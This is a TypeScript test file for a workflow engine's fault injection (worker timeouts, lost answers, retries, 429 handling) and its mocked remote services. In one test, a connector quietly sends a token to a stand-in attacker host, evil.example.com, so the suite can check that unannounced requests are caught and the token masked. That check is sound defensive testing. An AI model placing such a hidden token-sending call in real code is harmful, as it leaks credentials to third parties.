import { describe, expect, test } from 'vitest';
import { type Flow, type FlowOptions, type Run, remote, testFlow } from '../index.ts';
import type { FaultKind } from './faults.ts';
import { chain, connector, custom, shop } from './fixtures.ts';

/** One step "a" with a time limit of 5 s and 3 attempts. */
async function troubled(
  options: FlowOptions,
  act: (flow: Flow, run: () => Promise<Run>) => Promise<void>,
): Promise<void> {
  const model = chain({ id: 'a', settings: { timeoutMs: 5_000, repeat: { attempts: 3, delayMs: 1_000, factor: 1 } } });
  await using flow = await testFlow(model, { workers: shop(custom('a')), ...options });
  await act(flow, () => flow.start('in', { n: 1 }));
}

const afterFault = async (
  kind: FaultKind,
  options = {},
): Promise<{ status: string; calls: number; elapsed: number; reason: string | null }> => {
  let seen = { status: '', calls: 0, elapsed: 0, reason: null as string | null };
  await troubled({}, async (flow, start) => {
    flow.fail(kind, { node: 'a', ...options });
    const run = await start();
    const elapsed = await flow.finish();
    seen = { status: run.status, calls: flow.calls.length, elapsed, reason: (await flow.trash())[0]?.reason ?? null };
  });
  return seen;
};

describe('trouble between platform and worker', () => {
  test('a worker that is not there: the message waits, uses no attempt, and goes on when it is back', async () => {
    const seen = await afterFault('worker-unreachable', { times: 20 });
    expect(seen).toMatchObject({ status: 'completed', calls: 21 });
    expect(seen.elapsed).toBeGreaterThan(1_000);
  });

  test('a worker that hangs is given up at the time limit of its node and asked again', async () => {
    const seen = await afterFault('worker-timeout');
    expect(seen).toMatchObject({ status: 'completed', calls: 2 });
    expect(seen.elapsed).toBeGreaterThan(5_000);
    expect(seen.elapsed).toBeLessThan(7_000);
  });

  test('an answer that is lost is asked for again, until the attempts are used up', async () => {
    expect(await afterFault('answer-lost')).toMatchObject({ status: 'completed', calls: 2 });
    const lost = await afterFault('answer-lost', { times: 3 });
    expect(lost).toMatchObject({ status: 'failed', calls: 3, reason: expect.stringContaining('attempt 3 of 3') });
  });

  test('an answer that is no outcome is trash, with what was wrong', async () => {
    expect(await afterFault('answer-malformed')).toMatchObject({
      status: 'failed',
      reason: expect.stringContaining('no outcome'),
    });
  });

  test('a call that comes twice has one result', async () => {
    expect(await afterFault('called-twice')).toMatchObject({ status: 'completed', calls: 1 });
  });

  test('429 with Retry-After: the message waits exactly so long and uses no attempt', async () => {
    expect(await afterFault('too-many-requests', { retryAfter: '42 s', times: 5 })).toMatchObject({
      status: 'completed',
      calls: 6,
      elapsed: 5 * 42_000,
    });
  });

  test('trouble of a kind that does not exist is refused', async () => {
    await troubled({}, async (flow) => {
      expect(() => flow.fail('bad-mood' as FaultKind)).toThrow('got "bad-mood"');
      expect(() => flow.crash({ at: 'constructor' as 'after-call' })).toThrow('got "constructor"');
      await expect(flow.advance('soon')).rejects.toMatchObject({ code: 'test.duration_invalid' });
    });
    await expect(testFlow(chain(), { beginAt: 'yesterday' })).rejects.toThrow('got "yesterday"');
  });

  test('trouble that was announced and never came fails the test', async () => {
    const flow = await testFlow(chain({ id: 'a' }), { workers: shop(custom('a')) });
    flow.fail('answer-lost', { node: 'b', times: 2 });
    flow.crash({ at: 'after-commit', occurrence: 99 });
    await flow.start('in');
    await flow.settle();
    await expect(flow.close()).rejects.toThrow(
      'did not come: fault answer-lost at node "b", 2 time(s); crash at after-commit',
    );
  });
});

describe('trouble of remote services', () => {
  const URL = 'https://erp.example.com/orders';
  const post = shop(
    connector('a', async (message, context) => (await context.http.send({ url: URL, json: message.json() })).json()),
  );
  const model = chain({ id: 'a', kind: 'connector', settings: { repeat: { attempts: 3, delayMs: 1_000, factor: 1 } } });

  test('a service that is down, then full, then answers: repeated, waited for as it says, done', async () => {
    const erp = remote.script([
      {
        match: `POST ${URL}`,
        answer: [{ status: 503 }, 'reset', { status: 429, headers: { 'retry-after': '120' } }, { json: { id: 7 } }],
      },
    ]);
    await using flow = await testFlow(model, { workers: post, remote: erp });
    const run = await flow.start('in', { n: 1 });
    const elapsed = await flow.finish();
    expect(run.status).toBe('completed');
    expect(elapsed).toBeGreaterThan(120_000);
    expect(elapsed).toBeLessThan(124_000);
    // The key is the same every time: the service can tell a repeat.
    expect(new Set(erp.requests.map(({ headers }) => headers['idempotency-key'])).size).toBe(1);
  });

  test('a Retry-After that is a date is read by the clock of the test', async () => {
    const date = 'Fri, 02 Jan 2026 00:00:00 GMT';
    const erp = remote.script([
      { match: URL, answer: [{ status: 429, headers: { 'retry-after': date } }, { json: {} }] },
    ]);
    await using flow = await testFlow(model, { workers: post, remote: erp });
    await flow.start('in');
    expect(await flow.finish()).toBe(86_400_000);
  });

  test('a service that never answers is given up after the time limit of the request, in virtual time', async () => {
    const erp = remote.script([{ match: URL, answer: ['timeout', { json: {} }] }]);
    await using flow = await testFlow(model, { workers: post, remote: erp });
    const run = await flow.start('in');
    expect(await flow.finish()).toBeGreaterThan(30_000);
    expect(run.status).toBe('completed');
  });

  test('a request that nobody announced fails the test and says what was, even when the step hides it', async () => {
    const quiet = shop(
      connector('a', (_message, context) =>
        context.http.send({ url: 'https://evil.example.com/?token=s3cret' }).catch(() => ({})),
      ),
    );
    const erp = remote.script([
      { match: { method: 'GET', url: URL, json: { a: 1 } }, answer: { json: {} }, times: 'any' },
    ]);
    await using flow = await testFlow(model, { workers: quiet, remote: erp });
    await flow.start('in');
    await expect(flow.settle()).rejects.toThrow(
      'GET https://evil.example.com/?token=***. Announced: GET https://erp.example.com/orders with {"json":{"a":1}} (0 of any)',
    );
    await expect(flow.close()).rejects.toMatchObject({ code: 'test.unexpected_request' });
  });

  test('without a remote nothing leaves the process: a request fails the test', async () => {
    const flow = await testFlow(model, { workers: post });
    await flow.start('in');
    await expect(flow.settle()).rejects.toThrow(`POST ${URL}. Announced: nothing.`);
    await expect(flow.close()).rejects.toMatchObject({ code: 'test.unexpected_request' });
  });

  test('an announced request that does not come fails the test', async () => {
    const erp = remote.script([
      { match: /orders$/, answer: { json: {} } },
      { match: { url: URL, body: /never/ }, answer: [{ json: {} }, 'reset'] },
    ]);
    const flow = await testFlow(model, { workers: post, remote: erp });
    await flow.start('in');
    await flow.settle();
    await expect(flow.close()).rejects.toThrow(
      'request any method https://erp.example.com/orders with {"body":"/never/"}, came 0 of 2 time(s)',
    );
  });
});
